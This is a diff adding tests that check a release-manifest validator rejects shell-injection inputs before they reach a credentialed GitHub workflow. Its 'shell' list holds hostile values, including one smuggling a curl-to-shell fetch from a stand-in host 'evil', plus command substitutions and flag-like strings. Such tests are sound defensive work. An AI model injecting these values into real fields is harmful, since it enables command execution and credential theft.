@@ -1,4 +1,6 @@
+import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
+import { manifestText } from '../../src/domain/release/manifest-text.ts';
 import { understand } from '../../src/evidence/facts.ts';
 import { unpinnedActions } from '../../src/evidence/pinned-actions.ts';
 import { readPipelinePolicy } from '../../src/evidence/pipeline-policy.ts';
@@ -44,6 +46,118 @@ describe('a file of evidence', () => {
   ] as const)('names the field that is wrong in %s', (kind, value, detail) => {
     expect(understand(kind, value)).toEqual({ kind: 'wrong-shape', detail });
   });
+});
+
+describe('a manifest, which becomes an input of a workflow that may hold production’s credentials', () => {
+  const digest = `@sha256:${'a'.repeat(64)}`;
+  const plain = `acme.azurecr.io/api${digest}`;
+  function read(change: object): ReturnType<typeof understand<'release-candidate'>> {
+    return understand('release-candidate', { ...manifest, ...change });
+  }
+  function withImage(change: object): ReturnType<typeof read> {
+    return read({ images: [{ name: 'api', ref: plain, ...change }] });
+  }
+  const shell = [
+    "x';curl${IFS}evil|sh;'",
+    '$(id)',
+    '`id`',
+    'a b',
+    'a\nb',
+    'a;b',
+    'a|b',
+    'a&b',
+    'a>b',
+    'a"b',
+    "a'b",
+    'a\\b',
+    'a#b',
+    'a{b}',
+    'a*',
+    '~a',
+    '!a',
+    '-rf',
+    '--upload-file=x',
+    'a\u0000b',
+    'a\u202eb',
+    'ａｐｉ',
+    '',
+  ];
+
+  test.each(shell)('is no manifest with %j as the name of an image', (name) => {
+    expect(withImage({ name })).toMatchObject({ kind: 'wrong-shape' });
+  });
+
+  test.each(shell)('is no manifest with %j in the place where an image lies', (place) => {
+    expect(withImage({ ref: `${place}${digest}` })).toMatchObject({ kind: 'wrong-shape' });
+  });
+
+  test.each(shell)('is no manifest with %j as its version', (version) => {
+    expect(read({ version })).toMatchObject({ kind: 'wrong-shape' });
+  });
+
+  test.each([...shell, '12a', '1e3', '-1', '1'.repeat(21)])('is no manifest with %j as the id of its run', (runId) => {
+    expect(read({ runId })).toMatchObject({ kind: 'wrong-shape' });
+  });
+
+  test.each([`${plain} `, ` ${plain}`, `${plain}\n`, `${plain};id`, `${plain}${digest}`, plain.replace('@', '@@')])(
+    'is no manifest with anything around an image’s digest: %j',
+    (ref) => {
+      expect(withImage({ ref })).toMatchObject({ kind: 'wrong-shape' });
+    },
+  );
+
+  test.each(['api', 'checkout-api', 'checkout_api', 'team/api', 'api.v2', '2fa', 'c++'])(
+    'may name an image %s',
+    (name) => {
+      expect(withImage({ name })).toMatchObject({ kind: 'facts', facts: { images: [{ name }] } });
+    },
+  );
+
+  test.each([
+    'acme.azurecr.io/checkout-api',
+    'localhost:5000/api',
+    'ghcr.io/Acme/team/api:v2.14.0',
+    'registry-1.docker.io/a_b/c',
+  ])('may have an image at %s', (place) => {
+    expect(withImage({ ref: `${place}${digest}` })).toMatchObject({ kind: 'facts' });
+  });
+
+  test.each(['v2.14.0', '2026.11.02-rc.1', '1.0.0+build.5', 'release/2.14'])('may have the version %s', (version) => {
+    expect(read({ version })).toMatchObject({ kind: 'facts', facts: { version } });
+  });
+
+  test('of the longest kind fits into an input of GitHub, which takes 65,535 characters', () => {
+    const images = Array.from({ length: 50 }, (_, index) => ({
+      name: `${index}`.padEnd(100, 'n'),
+      ref: `${'r'.repeat(400 - digest.length)}${digest}`,
+    }));
+    const found = read({ images, version: 'v'.repeat(100), runId: '9'.repeat(20) });
+
+    expect(found).toMatchObject({ kind: 'facts' });
+    expect(found.kind === 'facts' ? manifestText(sha, found.facts).length : 0).toBeLessThan(65_535);
+    expect(read({ images: [...images, { name: 'one-more', ref: plain }] })).toMatchObject({ kind: 'wrong-shape' });
+  });
+
+  test.each(['image', 'ref', 'version', 'runId'])(
+    'is passed on in no letter that a shell would act upon, in its %s',
+    (field) => {
+      fc.assert(
+        fc.property(fc.string({ unit: 'grapheme', maxLength: 30 }), (text) => {
+          const change =
+            field === 'image' || field === 'ref'
+              ? {
+                  images: [
+                    { name: field === 'image' ? text : 'api', ref: field === 'ref' ? `${text}${digest}` : plain },
+                  ],
+                }
+              : { [field]: text };
+          const found = read(change);
+          const words = found.kind === 'facts' ? manifestText(sha, found.facts) : '';
+          expect(words.replaceAll(/[[\]{}":,]/g, '')).toMatch(/^[A-Za-z0-9@._+/-]*$/);
+        }),
+      );
+    },
+  );
 });
 
 describe('an action in a workflow', () => {
